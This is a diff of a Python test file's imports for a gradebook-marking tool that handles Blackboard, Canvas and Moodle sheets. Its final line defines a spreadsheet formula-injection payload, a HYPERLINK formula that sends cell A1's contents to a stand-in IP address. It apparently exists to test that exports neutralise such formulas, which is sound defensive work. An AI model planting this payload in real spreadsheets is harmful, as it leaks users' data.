@@ -13,11 +13,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from nhsreform import cli
-from nhsreform.marking import gradebooks, reading, sheets
-from nhsreform.marking.gradebooks import BLACKBOARD, CANVAS, MOODLE, SheetError, merge
-from nhsreform.marking.marks import MarkError
-from nhsreform.marking.reading import Mark
-from tests.marking.made_up import as_bytes, worked, wrong
+from nhsreform.marking import record as reading
+from nhsreform.marking import sheets
+from nhsreform.marking.gradebook import fill as gradebooks
+from nhsreform.marking.gradebook.fill import BLACKBOARD, CANVAS, MOODLE, SheetError, merge
+from nhsreform.marking.judge_class import MarkError
+from nhsreform.marking.record import Mark
+from tests.marking.made_up_notebooks import as_bytes, worked, wrong
 
 ONE = "01-joint-report"
 NASTY = '=HYPERLINK("http://192.0.2.1/?"&A1,"click")'
